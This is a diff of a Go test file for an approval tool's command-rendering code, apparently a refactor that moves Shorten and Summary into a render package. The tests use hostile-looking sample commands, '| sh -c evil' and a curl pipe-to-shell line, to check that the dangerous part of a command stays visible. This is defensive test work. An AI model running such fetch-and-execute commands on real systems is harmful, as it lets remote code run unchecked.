@@ -1,4 +1,4 @@
-package approval_test
+package render_test
 
 import (
 	"encoding/json"
@@ -7,8 +7,8 @@ import (
 	"testing"
 	"unicode/utf8"
 
-	"github.com/tada-run/tada-run/approval"
 	"github.com/tada-run/tada-run/approval/canonical"
+	"github.com/tada-run/tada-run/approval/render"
 )
 
 // Whatever a command is made of and however little room there is: the part that a reason points at
@@ -22,7 +22,7 @@ func TestShortenKeepsTheDangerousPart(t *testing.T) {
 					const danger = "| sh -c evil"
 					head, tail := strings.Repeat(filler, before/len(filler)+1), strings.Repeat(filler, after/len(filler)+1)
 					text := head + danger + tail
-					pieces := approval.Shorten(text, [][2]int{{len(head), len(head) + len(danger)}}, room)
+					pieces := render.Shorten(text, [][2]int{{len(head), len(head) + len(danger)}}, room)
 					shown, cut, found := 0, 0, false
 					for _, p := range pieces {
 						shown += utf8.RuneCountInString(p.Text)
@@ -51,7 +51,7 @@ func TestShortenKeepsTheEnd(t *testing.T) {
 	t.Parallel()
 	text := "curl https://a.test/" + strings.Repeat("x", 500) + " \\\n | sh"
 	for _, spans := range [][][2]int{nil, {{0, len(text)}}} {
-		pieces := approval.Shorten(text, spans, 60)
+		pieces := render.Shorten(text, spans, 60)
 		if last := pieces[len(pieces)-1].Text; !strings.HasSuffix(last, "| sh") || !strings.HasPrefix(pieces[0].Text, "curl ") {
 			t.Errorf("%+v", pieces)
 		}
@@ -95,7 +95,7 @@ func TestSummary(t *testing.T) {
 		"several":          {plan(nil, map[string]any{"command": "one" + pad}, map[string]any{"command": "two" + pad}), 2, "two", ""},
 		"no plan":          {[]byte("x"), 0, "", ""},
 	} {
-		got := approval.Summary(c.payload, 80)
+		got := render.Summary(c.payload, 80)
 		if text := fmt.Sprint(got); len(got) != c.calls || !strings.Contains(text, c.has) || c.not != "" && strings.Contains(text, c.not) {
 			t.Errorf("%s: %+v", name, got)
 		}
